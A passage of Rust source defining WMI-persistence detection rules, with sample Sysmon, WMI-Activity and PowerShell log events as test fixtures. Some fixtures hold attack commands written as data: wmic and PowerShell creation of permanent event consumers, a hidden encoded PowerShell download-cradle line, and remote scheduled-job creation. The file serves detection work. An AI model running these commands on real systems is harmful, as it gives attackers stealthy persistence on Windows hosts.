            contrast: Some((ex!(SYSMON, "21", "EventID" = "21", "EventType" = "WmiBindingEvent", "Operation" = "Created", "User" = "CORP\\alice", "Consumer" = "CommandLineEventConsumer.Name=\"AtomicRedTeam-WMIPersistence-Example\"", "Filter" = "__EventFilter.Name=\"AtomicRedTeam-WMIPersistence-Example\""), Contrast::Filtered)),
        },
    ],
};

fn m_subscription_consumer(c: &Ctx<'_>) -> Option<Hit> {
    let t = &c.text;
    let consumer_kind = [
        "commandlineeventconsumer",
        "activescripteventconsumer",
        "command line",
        "script",
    ];
    let fits = match c.kind {
        Kind::SysmonWmi(20) => true,
        Kind::WmiActivity(5861) => any(t, &consumer_kind[..2]),
        _ => false,
    };
    (fits && any(t, &consumer_kind) && !t.contains(SCM_CONSUMER)).then(|| Hit {
        detail: c.get(F::WmiConsumer).map(|v| format!("consumer {v}")),
        ..Hit::default()
    })
}

const WMI_SUBSCRIPTION_PERMANENT_BINDING: Rule = Rule {
    id: "wmi_subscription_permanent_binding",
    alert_type: "WMI_Subscription_Permanent",
    description: "Permanent WMI event filter or binding",
    mitre: "T1546.003",
    side: Side::Local,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Context,
    impact: 30,
    confidence: 100,
    basis: Basis::Escu("D2"),
    message: "WMI event filter or binding created on $risk_object$",
    when: Match::Custom(Custom {
        classes: &[Class::SysmonWmi, Class::WmiActivity],
        needles: &[],
        needs_keyword: false,
        f: m_subscription_binding,
    }),
    positives: &[
        pos!(ex!(SYSMON, "21", "Consumer" = "CommandLineEventConsumer.Name=\"x\""), detail: "CommandLineEventConsumer.Name=\"x\""),
        pos!(ex!(SYSMON, "19", "Query" = "SELECT * FROM __InstanceModificationEvent"), detail: "SELECT * FROM __InstanceModificationEvent"),
    ],
    negatives: &[
        ex!(
            WMI,
            "5861",
            "CONSUMER" = "NTEventLogEventConsumer=\"SCM Event Log Consumer\""
        ),
        ex!(WMI, "5861", "CONSUMER" = "CommandLineEventConsumer=\"x\""),
        ex!(
            WMI,
            "5859",
            "PossibleCause" = "Permanent",
            "Query" = "select * from MSFT_SCMEventLogEvent"
        ),
    ],
    public: &[
        FromPublic {
            origin: Origin::Sigma("0f06a3a5"),
            built: Built::Regression { path: "regression_data/rules/windows/wmi_event/sysmon_wmi_event_subscription/0f06a3a5-6a09-413f-8743-e6cf35561297.json", commit: "176d182dc8e4e94ef447b8706850eb5b13dc2dd2" },
            event: ex!(SYSMON, "19", "RuleName" = "technique_id=T1047,technique_name=Windows Management Instrumentation", "EventType" = "WmiFilterEvent", "UtcTime" = "2026-08-30 15:07:43.355", "Operation" = "Created", "User" = "SigmaCatchVm\\frack113", "EventNamespace" = "\"root\\\\CimV2\"", "Name" = "\"AtomicRedTeam-WMIPersistence-CommandLineEventConsumer-Example\"", "Query" = "\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325\""),
            targets: &[],
            contrast: Some((ex!(WMI, "5860", "NamespaceName" = "//./root/CIMV2", "Query" = "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_LogonSession'", "User" = "SigmaCatchVm\\frack113", "Processid" = "4412", "MachineName" = "SigmaCatchVm", "PossibleCause" = "Temporary"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Escu("D2"),
            built: Built::Definition,
            event: ex!(SYSMON, "21", "EventType" = "WmiBindingEvent", "Operation" = "Created", "User" = "CORP\\alice", "Consumer" = "CommandLineEventConsumer.Name=\"AtomicRedTeam-WMIPersistence-Example\"", "Filter" = "__EventFilter.Name=\"AtomicRedTeam-WMIPersistence-Example\""),
            targets: &[],
            contrast: Some((ex!(SYSMON, "19", "EventType" = "WmiFilterEvent", "Operation" = "Created", "User" = "CORP\\alice", "EventNamespace" = "\"root\\\\CimV2\"", "Name" = "\"AtomicRedTeam-WMIPersistence-Example\"", "Query" = "\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND TargetInstance.SystemUpTime < 325\""), Contrast::Broader("a permanent filter (Sysmon 19) is half of a subscription; ESCU reads only the binding (21)"))),
        },
    ],
};

fn m_subscription_binding(c: &Ctx<'_>) -> Option<Hit> {
    let t = &c.text;
    let fits = match c.kind {
        Kind::SysmonWmi(19 | 21) => true,
        Kind::WmiActivity(5861) => !any(
            t,
            &["commandlineeventconsumer", "activescripteventconsumer"],
        ),
        Kind::WmiActivity(5859) => t.contains("permanent"),
        _ => false,
    };
    (fits && !t.contains(SCM_CONSUMER) && !t.contains("msft_scmeventlogevent")).then(|| Hit {
        detail: c
            .get(F::WmiConsumer)
            .or_else(|| c.get(F::WmiQuery))
            .map(|v| v.chars().take(200).collect()),
        ..Hit::default()
    })
}

const WMI_SUBSCRIPTION_TEMPORARY: Rule = Rule {
    id: "wmi_subscription_temporary",
    alert_type: "WMI_Subscription_Temporary",
    description: "Temporary WMI event subscription that is not a Windows default",
    mitre: "T1546.003",
    side: Side::Local,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Context,
    impact: 50,
    confidence: 50,
    basis: Basis::Escu("D4"),
    message: "Temporary WMI event subscription on $risk_object$",
    when: Match::When(Cond {
        kinds: &[Kind::WmiActivity(5860)],
        text_none: &[
            "wsmprovhost.exe",
            "antivirusproduct",
            "firewallproduct",
            "antispywareproduct",
        ],
        yields: Yield::Detail {
            prefix: "query ",
            field: F::WmiQuery,
            lower: false,
        },
        ..Cond::ANY
    }),
    positives: &[
        pos!(ex!(WMI, "5860", "Query" = "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_LogonSession'"), detail: "query SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_LogonSession'"),
    ],
    negatives: &[ex!(
        WMI,
        "5860",
        "Query" = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'wsmprovhost.exe'"
    )],
    public: &[
        FromPublic {
            origin: Origin::Escu("D4"),
            built: Built::Definition,
            event: ex!(WMI, "5860", "NamespaceName" = "//./root/CIMV2", "Query" = "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'", "User" = "CORP\\alice", "Processid" = "4321", "MachineName" = "WKS01", "PossibleCause" = "Temporary", "Message" = "Namespace = //./root/CIMV2; NotificationQuery = SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'; UserName = CORP\\alice; ClientProcessID = 4321, ClientMachine = WKS01; PossibleCause = Temporary"),
            targets: &[],
            contrast: Some((ex!(WMI, "5860", "NamespaceName" = "//./root/CIMV2", "Query" = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'wsmprovhost.exe'", "User" = "NT AUTHORITY\\SYSTEM", "Processid" = "2216", "MachineName" = "SRV03", "PossibleCause" = "Temporary", "Message" = "Namespace = //./root/CIMV2; NotificationQuery = SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'wsmprovhost.exe'; UserName = NT AUTHORITY\\SYSTEM; ClientProcessID = 2216, ClientMachine = SRV03; PossibleCause = Temporary"), Contrast::Filtered)),
        },
    ],
};

const WMI_ACTIVITY_CONTEXT: Rule = Rule {
    id: "wmi_activity_context",
    alert_type: "WMI_Activity",
    description: "WMI provider load or client operation (WMI-Activity 5857/5858; context)",
    mitre: "T1047",
    side: Side::Local,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Context,
    impact: 0,
    confidence: 0,
    basis: Basis::Own("context: never risk on its own"),
    message: "WMI activity on $risk_object$",
    when: Match::Custom(Custom {
        classes: &[Class::WmiActivity],
        needles: &[],
        needs_keyword: false,
        f: m_wmi_context,
    }),
    positives: &[
        pos!(ex!(WMI, "5857", "ProviderName" = "CIMWin32"), detail: "provider CIMWin32"),
        pos!(ex!(WMI, "5858", "ClientMachine" = "WKS01", "Operation" = "ExecQuery"), detail: "client WKS01; operation ExecQuery"),
    ],
    negatives: &[ex!(WMI, "5860", "Query" = "x")],
    public: &[],
};

fn m_wmi_context(c: &Ctx<'_>) -> Option<Hit> {
    if !matches!(c.kind, Kind::WmiActivity(5857 | 5858)) {
        return None;
    }
    let mut detail = String::new();
    for (label, f) in [
        ("provider", F::WmiProvider),
        ("client", F::WmiClientMachine),
        ("operation", F::WmiOperation),
    ] {
        if let Some(v) = c.get(f) {
            if !detail.is_empty() {
                detail.push_str("; ");
            }
            detail.push_str(label);
            detail.push(' ');
            let cut = v.char_indices().nth(160).map_or(v.len(), |(i, _)| i);
            detail.push_str(&v[..cut]);
        }
    }
    Some(Hit {
        detail: (!detail.is_empty()).then_some(detail),
        ..Hit::default()
    })
}

const WMI_SUBSCRIPTION_CREATED: Rule = Rule {
    id: "wmi_subscription_created",
    alert_type: "WMI_Subscription_Permanent",
    description: "Permanent WMI event subscription created from a command line or a script (wmic /namespace:\\\\root\\subscription ... CREATE; New-CimInstance / Set-WmiInstance of a consumer, filter or binding)",
    mitre: "T1546.003",
    side: Side::Local,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Context,
    impact: 70,
    confidence: 70,
    basis: Basis::Sigma("ebef4391", Level::High),
    message: "WMI event subscription created on $risk_object$",
    when: Match::AnyOf(&[
        Cond {
            kinds: &[Kind::ProcessCreate],
            image: &["wmic.exe"],
            image_or_original: true,
            text_all: &["root\\subscription"],
            text_also_any: &[" create "],
            yields: Yield::ProcessThreats,
            ..Cond::ANY
        },
        Cond {
            kinds: &[Kind::ScriptBlock, Kind::PsModule],
            text_any: &["new-ciminstance", "set-wmiinstance"],
            text_all: &["subscription"],
            text_also_any: SUBSCRIPTION_CLASSES,
            ..Cond::ANY
        },
    ]),
    positives: &[
        // EVTX-ATTACK-SAMPLES (WinPwnage): the three wmic calls of one subscription.
        pos!(ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "CommandLine" = "\"C:\\Windows\\System32\\wbem\\WMIC.exe\" /namespace:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"BotConsumer23\", ExecutablePath=\"c:\\Windows\\System32\\cmd.exe\""), threats: [("wmic.exe", "process_name"), ("cmd.exe", "parent_process_name")]),
        pos!(ex!(PSOP, "4104", "ScriptBlockText" = "Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{Name='f'; QueryLanguage='WQL'; Query=$q}")),
    ],
    negatives: &[
        // Taking a subscription away, and reading them.
        ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "CommandLine" = "\"C:\\Windows\\System32\\wbem\\WMIC.exe\" /namespace:\"\\\\root\\subscription\" PATH __EventFilter WHERE Name=\"BotFilter82\" DELETE"),
        ex!(PSOP, "4104", "ScriptBlockText" = "Get-CimInstance -Namespace root/subscription -ClassName __EventFilter"),
        ex!(PSOP, "4104", "ScriptBlockText" = "New-CimInstance -ClassName Win32_Environment -Property @{Name='x'}"),
    ],
    public: &[
        FromPublic {
            origin: Origin::Sigma("ebef4391"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "CommandLine" = "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH ActiveScriptEventConsumer CREATE Name=\"ASEC\", ScriptingEngine=\"VBScript\", ScriptText=\"CreateObject(\\\"WScript.Shell\\\").Run(\\\"calc.exe\\\")\""),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "CommandLine" = "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"C\", CommandLineTemplate=\"calc.exe\""), Contrast::Broader("a command-line consumer made by wmic is a subscription too; Sigma reads only ActiveScriptEventConsumer"))),
        },
        FromPublic {
            origin: Origin::Sigma("9e07f6e7"),
            built: Built::Definition,
            event: ex!(PSOP, "4104", "ScriptBlockText" = "$f = New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property @{Name='Updater'; EventNamespace='root/cimv2'; QueryLanguage='WQL'; Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"}"),
            targets: &[],
            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "Get-CimInstance -Namespace root/subscription -ClassName __EventFilter"), Contrast::Filtered)),
        },
    ],
};

/// The classes a permanent subscription is made of.
const SUBSCRIPTION_CLASSES: &[&str] = &[
    "commandlineeventconsumer",
    "activescripteventconsumer",
    "__eventfilter",
    "__filtertoconsumerbinding",
];

const WMI_PROCESS_LOGON: Rule = Rule {
    id: "wmi_process_logon",
    alert_type: "WMI_Logon",
    description: "Logon (4624) made by the WMI provider host or the script consumer host (WmiPrvSE.exe, scrcons.exe) for an account that is not the machine's",
    mitre: "T1047",
    side: Side::Destination,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Logon,
    impact: 30,
    confidence: 50,
    basis: Basis::Sigma("5af54681", Level::Low),
    message: "$TargetUserName$ logged on through WMI on $risk_object$",
    when: Match::When(Cond {
        kinds: &[Kind::Logon],
        fields: &[(F::ProcessName, Test::FileIs(&["wmiprvse.exe", "scrcons.exe"]))],
        fields_not: &[
            (F::TargetUserName, Test::Is(&["SYSTEM"])),
            (F::TargetLogonId, Test::Is(&["0x3e7"])),
        ],
        yields: Yield::Detail {
            prefix: "by ",
            field: F::ProcessName,
            lower: false,
        },
        ..Cond::ANY
    }),
    positives: &[
        pos!(ex!(SECURITY, "4624", "LogonType" = "3", "TargetUserName" = "alice", "TargetLogonId" = "0x5a1b2c", "ProcessName" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"), detail: "by C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"),
    ],
    negatives: &[
        ex!(SECURITY, "4624", "LogonType" = "5", "TargetUserName" = "SYSTEM", "TargetLogonId" = "0x3e7", "ProcessName" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"),
        ex!(SECURITY, "4624", "LogonType" = "3", "TargetUserName" = "alice", "ProcessName" = "-"),
    ],
    public: &[
        FromPublic {
            origin: Origin::Sigma("5af54681"),
            built: Built::Definition,
            event: ex!(SECURITY, "4624", "LogonType" = "3", "SubjectUserName" = "SRV02$", "TargetUserName" = "admin", "TargetDomainName" = "CORP", "TargetLogonId" = "0x8f21a3", "ProcessName" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "IpAddress" = "-"),
            targets: &[],
            contrast: Some((ex!(SECURITY, "4624", "LogonType" = "5", "TargetUserName" = "SYSTEM", "TargetLogonId" = "0x3e7", "ProcessName" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("9599c180"),
            built: Built::Definition,
            event: ex!(SECURITY, "4624", "LogonType" = "3", "TargetUserName" = "admin", "TargetLogonId" = "0x8f21a4", "ProcessName" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "IpAddress" = "10.0.0.21"),
            targets: &[],
            contrast: Some((ex!(SECURITY, "4624", "LogonType" = "3", "TargetUserName" = "SRV02$", "TargetLogonId" = "0x3e7", "ProcessName" = "C:\\Windows\\System32\\wbem\\scrcons.exe"), Contrast::Filtered)),
        },
    ],
};

const WMI_CONSUMER_EXEC: Rule = Rule {
    id: "wmi_consumer_exec",
    alert_type: "WMI_Consumer_Exec",
    description: "WMI script consumer host scrcons.exe started or spawned a process",
    mitre: "T1546.003",
    side: Side::Local,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Context,
    impact: 60,
    confidence: 60,
    basis: Basis::Escu("D6"),
    message: "WMI script consumer executed on $risk_object$",
    when: Match::AnyOf(&[
        Cond {
            kinds: &[Kind::ProcessCreate],
            image: &["scrcons.exe"],
            yields: Yield::ProcessThreats,
            ..Cond::ANY
        },
        Cond {
            kinds: &[Kind::ProcessCreate],
            parent: &["scrcons.exe"],
            yields: Yield::ProcessThreats,
            ..Cond::ANY
        },
        // Sigma 33f41cdd: the script consumer host writing a file.
        Cond {
            kinds: &[Kind::FileCreate],
            image: &["scrcons.exe"],
            yields: Yield::Detail {
                prefix: "wrote ",
                field: F::TargetFilename,
                lower: false,
            },
            ..Cond::ANY
        },
        // Sigma b439f47d: the script consumer host loading a script engine.
        Cond {
            kinds: &[Kind::ImageLoad],
            image: &["scrcons.exe"],
            fields: &[(
                F::ImageLoaded,
                Test::EndsWith(&[
                    "\\vbscript.dll",
                    "\\jscript.dll",
                    "\\wbemdisp.dll",
                    "\\wshom.ocx",
                    "\\scrrun.dll",
                ]),
            )],
            yields: Yield::LoadThreats,
            ..Cond::ANY
        },
        // Sigma 05936ce2: WmiPrvSE loading the command-line consumer.
        Cond {
            kinds: &[Kind::ImageLoad],
            image: &["wmiprvse.exe"],
            fields: &[(F::ImageLoaded, Test::EndsWith(&["\\wbemcons.dll"]))],
            yields: Yield::LoadThreats,
            ..Cond::ANY
        },
    ]),
    positives: &[
        pos!(ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "ParentImage" = "C:\\Windows\\System32\\svchost.exe"), threats: [("scrcons.exe", "process_name"), ("svchost.exe", "parent_process_name")]),
        pos!(ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "ImageLoaded" = "C:\\Windows\\System32\\vbscript.dll"), threats: [("scrcons.exe", "process_name")], detail: "loaded C:\\Windows\\System32\\vbscript.dll"),
        pos!(ex!(SYSMON, "11", "Image" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "TargetFilename" = "C:\\Users\\Public\\beacon.exe"), detail: "wrote C:\\Users\\Public\\beacon.exe"),
        pos!(ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ImageLoaded" = "C:\\Windows\\System32\\wbem\\wbemcons.dll"), threats: [("wmiprvse.exe", "process_name")], detail: "loaded C:\\Windows\\System32\\wbem\\wbemcons.dll"),
    ],
    negatives: &[
        ex!(
            SYSMON,
            "1",
            "Image" = "C:\\Windows\\System32\\svchost.exe",
            "ParentImage" = "C:\\Windows\\System32\\services.exe"
        ),
        // A script host loading its engine is what scripts do.
        ex!(
            SYSMON,
            "7",
            "Image" = "C:\\Windows\\System32\\cscript.exe",
            "ImageLoaded" = "C:\\Windows\\System32\\vbscript.dll"
        ),
        ex!(
            SYSMON,
            "7",
            "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "ImageLoaded" = "C:\\Windows\\System32\\wbemcomn.dll"
        ),
    ],
    public: &[
        FromPublic {
            origin: Origin::Sigma("33f41cdd"),
            built: Built::Definition,
            event: ex!(SYSMON, "11", "Image" = "C:\\WINDOWS\\system32\\wbem\\scrcons.exe", "TargetFilename" = "C:\\Windows\\Temp\\payload.ps1"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "11", "Image" = "C:\\Windows\\System32\\svchost.exe", "TargetFilename" = "C:\\Windows\\Temp\\payload.ps1"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("ec1d5e28"),
            built: Built::Regression { path: "regression_data/rules/windows/process_creation/proc_creation_win_wmi_persistence_script_event_consumer/ec1d5e28-8f3b-4188-a6f8-6e8df81dc28e.json", commit: "f833216056b130164bd3d7bd753e52a770636443" },
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "CommandLine" = "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding", "CurrentDirectory" = "C:\\Windows\\system32\\", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7", "IntegrityLevel" = "System", "ParentImage" = "C:\\Windows\\System32\\svchost.exe", "ParentCommandLine" = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "CommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7", "ParentImage" = "C:\\Windows\\System32\\svchost.exe", "ParentCommandLine" = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("f6d1dd2f"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7", "ParentImage" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\conhost.exe", "OriginalFileName" = "CONHOST.EXE", "CommandLine" = "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7", "ParentImage" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding"), Contrast::Broader("any child of the script consumer host is consumer execution"))),
        },
        FromPublic {
            origin: Origin::Escu("D6"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "OriginalFileName" = "SCRCONS.EXE", "CommandLine" = "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding", "ParentImage" = "C:\\Windows\\System32\\svchost.exe", "ParentCommandLine" = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "OriginalFileName" = "Wmiprvse.exe", "CommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding", "ParentImage" = "C:\\Windows\\System32\\svchost.exe", "ParentCommandLine" = "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "User" = "NT AUTHORITY\\NETWORK SERVICE", "LogonId" = "0x3e4"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("b439f47d"),
            built: Built::Definition,
            event: ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\scrcons.exe", "ImageLoaded" = "C:\\Windows\\System32\\wshom.ocx"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wscript.exe", "ImageLoaded" = "C:\\Windows\\System32\\wshom.ocx"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Sigma("05936ce2"),
            built: Built::Definition,
            event: ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ImageLoaded" = "C:\\Windows\\System32\\wbem\\wbemcons.dll"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "7", "Image" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ImageLoaded" = "C:\\Windows\\System32\\wbem\\wbemprox.dll"), Contrast::Filtered)),
        },
    ],
};

const WMI_MOF_COMPILE: Rule = Rule {
    id: "wmi_mof_compile",
    alert_type: "WMI_MOF_Compile",
    description: "MOF file compiled from a shell or a user/temp path",
    mitre: "T1546.003",
    side: Side::Local,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Context,
    impact: 80,
    confidence: 80,
    basis: Basis::Escu("D5"),
    message: "MOF compiled on $risk_object$",
    when: Match::AnyOf(&[
        Cond {
            kinds: &[Kind::ProcessCreate],
            image: &["mofcomp.exe"],
            image_or_original: true,
            parent: &["cmd.exe", "powershell.exe", "pwsh.exe", "wsl.exe", "wscript.exe", "cscript.exe"],
            yields: Yield::ProcessThreats,
            ..Cond::ANY
        },
        Cond {
            kinds: &[Kind::ProcessCreate],
            image: &["mofcomp.exe"],
            image_or_original: true,
            fields: &[(
                F::CommandLine,
                Test::Contains(&["\\users\\", "\\temp\\", "\\appdata\\", "\\programdata\\", "%temp%", "%tmp%", "%appdata%"]),
            )],
            // WMI registering a provider compiles its MOF from the Windows
            // temp folder (Sigma 1dd05363's filter).
            fields_not: &[(F::ParentImage, Test::FileIs(&["wmiprvse.exe"]))],
            yields: Yield::ProcessThreats,
            ..Cond::ANY
        },
    ]),
    positives: &[
        pos!(ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "CommandLine" = "mofcomp C:\\Users\\a\\evil.mof"), threats: [("mofcomp.exe", "process_name"), ("cmd.exe", "parent_process_name")]),
        pos!(ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe", "ParentImage" = "C:\\Windows\\System32\\wscript.exe", "CommandLine" = "mofcomp.exe x.mof"), threats: [("mofcomp.exe", "process_name"), ("wscript.exe", "parent_process_name")]),
        pos!(ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe", "ParentImage" = "C:\\Windows\\explorer.exe", "CommandLine" = "mofcomp.exe %TEMP%\\x.mof"), threats: [("mofcomp.exe", "process_name"), ("explorer.exe", "parent_process_name")]),
    ],
    negatives: &[ex!(
        SYSMON,
        "1",
        "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe",
        "ParentImage" = "C:\\Windows\\System32\\msiexec.exe",
        "CommandLine" = "mofcomp C:\\Windows\\System32\\wbem\\x.mof"
    )],
    public: &[
        FromPublic {
            origin: Origin::Sigma("1dd05363"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe", "OriginalFileName" = "mofcomp.exe", "CommandLine" = "mofcomp.exe C:\\Users\\Public\\evil.mof", "User" = "CORP\\alice", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\""),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe", "OriginalFileName" = "mofcomp.exe", "CommandLine" = "C:\\Windows\\system32\\wbem\\mofcomp.exe C:\\Windows\\TEMP\\tmp5A3F.mof", "User" = "NT AUTHORITY\\SYSTEM", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"), Contrast::Filtered)),
        },
        FromPublic {
            origin: Origin::Escu("D5"),
            built: Built::Definition,
            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe", "OriginalFileName" = "mofcomp.exe", "CommandLine" = "\"C:\\Windows\\system32\\wbem\\mofcomp.exe\" C:\\Users\\alice\\AppData\\Local\\Temp\\upd.mof", "ParentImage" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "ParentCommandLine" = "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"", "User" = "CORP\\alice"),
            targets: &[],
            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\mofcomp.exe", "OriginalFileName" = "mofcomp.exe", "CommandLine" = "mofcomp.exe \"C:\\Program Files\\Vendor\\Agent\\agent.mof\"", "ParentImage" = "C:\\Windows\\System32\\msiexec.exe", "ParentCommandLine" = "C:\\Windows\\system32\\msiexec.exe /V", "User" = "NT AUTHORITY\\SYSTEM"), Contrast::Filtered)),
        },
    ],
};

const WMI_SCHEDULED_JOB: Rule = Rule {
    id: "wmi_scheduled_job",
    alert_type: "WMI_ScheduledJob",
    description: "Scheduled job created through WMI Win32_ScheduledJob",
    mitre: "T1053.002",
    side: Side::Source,
    technique: Some(Technique::Wmi),
    outcome: Outcome::Success,
    artefact: Artefact::Execution,
    impact: 80,
    confidence: 50,
    basis: Basis::Escu("C14"),
    message: "WMI Win32_ScheduledJob used on $risk_object$",
    when: Match::When(Cond {
        kinds: &[Kind::ScriptBlock, Kind::ProcessCreate],
        text_any: &["win32_scheduledjob"],
        yields: Yield::Tool,
        ..Cond::ANY
    }),
    positives: &[pos!(
        ex!(
            PSOP,
            "4104",
            "ScriptBlockText" =
                "([wmiclass]'\\\\srv03\\root\\cimv2:Win32_ScheduledJob').Create('calc',...)"
        ),
        targets: ["srv03"]
    )],
    negatives: &[ex!(PSOP, "4104", "ScriptBlockText" = "Get-ScheduledTask")],
    public: &[
        FromPublic {
            origin: Origin::Escu("C14"),
            built: Built::Definition,
            event: ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-WmiMethod -ComputerName SRV03 -Class Win32_ScheduledJob -Name Create -ArgumentList 'cmd.exe /c C:\\Users\\Public\\a.bat', '********235900.000000+000'"),
